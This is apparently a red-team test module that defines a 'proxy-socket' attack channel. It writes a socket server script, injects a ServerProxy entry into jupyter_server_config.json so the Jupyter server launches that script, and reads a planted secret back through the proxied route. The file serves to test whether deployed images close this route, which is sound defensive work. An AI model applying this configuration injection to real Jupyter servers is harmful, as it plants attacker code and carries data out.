from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.targets import Target

PROGRAM = """
import os, socket, sys
path = sys.argv[1]
door = socket.socket(socket.AF_UNIX)
door.bind(path)
door.listen()
while True:
    peer, _ = door.accept()
    with peer:
        peer.recv(65536)
        body = open(os.path.expanduser("~/proxied.bin"), "rb").read()
        peer.sendall(b"HTTP/1.1 200 OK\\r\\nConnection: close\\r\\nContent-Length: %d\\r\\n\\r\\n%s" % (len(body), body))
"""
WRITE = f"""
import json, os, sys
from jupyter_core.paths import jupyter_config_dir
open("proxied.py", "w").write({PROGRAM!r})
os.makedirs(jupyter_config_dir(), exist_ok=True)
server = {{"command": [sys.executable, os.path.abspath("proxied.py"), "{{unix_socket}}"], "unix_socket": True}}
json.dump({{"ServerProxy": {{"servers": {{"carried": server}}}}}}, open(os.path.join(jupyter_config_dir(), "jupyter_server_config.json"), "w"))
"""


def plant(site: Target, secret: bytes) -> None:
    site.run(WRITE)


@channel(
    "proxy-socket",
    "An application of the attacker's own behind a unix socket, that the server starts and proxies",
    closed_by="applications are named in the image; the desk's configuration is in its image",
    plant=plant,
)
def attack(site: Target, secret: bytes) -> bytes | None:
    site.run("import os; open(os.path.expanduser('~/proxied.bin'), 'wb').write(secret);")
    return site.get("carried/").body
